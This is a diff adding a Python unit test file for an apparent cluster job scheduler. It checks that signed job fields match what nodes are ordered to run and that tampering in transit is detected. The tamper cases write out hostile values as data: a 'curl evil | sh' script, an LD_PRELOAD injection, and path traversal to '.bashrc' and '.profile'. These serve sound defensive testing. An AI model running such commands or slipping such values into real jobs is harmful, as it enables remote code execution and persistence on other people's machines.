@@ -1,0 +1,75 @@
+"""What a job's owner signs (as their `drover` sends the job) and what a node checks (as the
+controller's order says it) are the same thing, through the controller's real submission and
+dispatch, for every field the signature covers; and a change to any of them on the way is
+seen. On plain data: no munged is needed to compare digests."""
+
+from __future__ import annotations
+
+import base64
+import copy
+from typing import Any
+
+import msgspec
+import pytest
+from tests.unit.controller.test_handlers import World, world  # noqa: F401  (a fixture)
+
+from drover.cluster.signing import job_digest, outputs_as_signed, signed_order, signed_request
+from drover.protocol.api import JobSubmission
+from drover.protocol.node_channel import File, StartAttempt
+
+JOBS: list[dict[str, Any]] = [
+    {"script": "echo hi\n", "workdir": "/tmp"},
+    {"script": "echo hi\n", "workdir": "/tmp", "name": "n1", "output": "o-%j-%x.txt", "error": "e-%u-%N.txt",
+     "environment": {"A": "1", "PATH": "/bin"}, "prolog": "true", "epilog": "echo done",
+     "stage_in": [{"name": "in/data", "data": base64.b64encode(b"\x00\x01").decode(), "mode": 0o600}],
+     "stage_out": ["*.out", "res/*"]},
+    {"script": "echo hi\n", "workdir": "/tmp", "array": "1-3", "name": "arr"},
+    {"script": "echo hi\n", "workdir": "", "submit_dir": "/tmp", "output": "scratch.out"},  # scratch on the node
+]
+
+
+def _submitted(world: World, job: dict[str, Any]) -> list[StartAttempt]:  # noqa: F811
+    """`job` as the controller decodes it from the wire, submitted and dispatched."""
+    submission = msgspec.json.decode(msgspec.json.encode(job), type=JobSubmission)
+    world.submit(**{name: getattr(submission, name) for name in submission.__struct_fields__})
+    return world.schedule()
+
+
+@pytest.mark.parametrize("job", JOBS)
+def test_what_is_signed_is_what_the_node_is_ordered_to_run(world: World, job: dict[str, Any]) -> None:  # noqa: F811
+    world.connect(cpus=4)
+    orders = _submitted(world, job)
+    assert orders
+    for order in orders:
+        assert job_digest(signed_order(order)) == job_digest(signed_request(job))
+        assert outputs_as_signed(order)
+
+
+@pytest.mark.parametrize(("field", "change"), [
+    ("script", lambda o: setattr(o, "script", "curl evil | sh\n")),
+    ("workdir", lambda o: o.config.__setitem__("workdir", "/root")),
+    ("environment", lambda o: o.config["environment"].__setitem__("LD_PRELOAD", "/tmp/x.so")),
+    ("prolog", lambda o: o.config.__setitem__("job_prolog", "evil")),
+    ("epilog", lambda o: o.config.__setitem__("job_epilog", "evil")),
+    ("name", lambda o: o.config.__setitem__("name", "../../.bashrc")),
+    ("stage_in", lambda o: o.stage_in.append(File(".bashrc", b"evil", 0o644))),
+    ("stage_out", lambda o: o.config["stage_out"].append("*")),
+    ("output pattern", lambda o: o.config.__setitem__("output_pattern", "../.profile")),
+])
+def test_a_change_on_the_way_is_seen(world: World, field: str, change: Any) -> None:  # noqa: F811
+    job = JOBS[1]
+    world.connect()
+    (order,) = _submitted(world, job)
+    changed = copy.deepcopy(order)
+    change(changed)
+    assert job_digest(signed_order(changed)) != job_digest(signed_request(job)), field
+
+
+def test_an_output_file_elsewhere_than_its_pattern_says_is_seen(world: World) -> None:  # noqa: F811
+    world.connect()
+    world.submit(script="true\n", workdir="/tmp", output="o.txt")
+    (order,) = world.schedule()
+    assert outputs_as_signed(order)
+    moved = copy.deepcopy(order)
+    moved.config["stdout"] = "/home/someone/.bashrc"
+    assert not outputs_as_signed(moved)
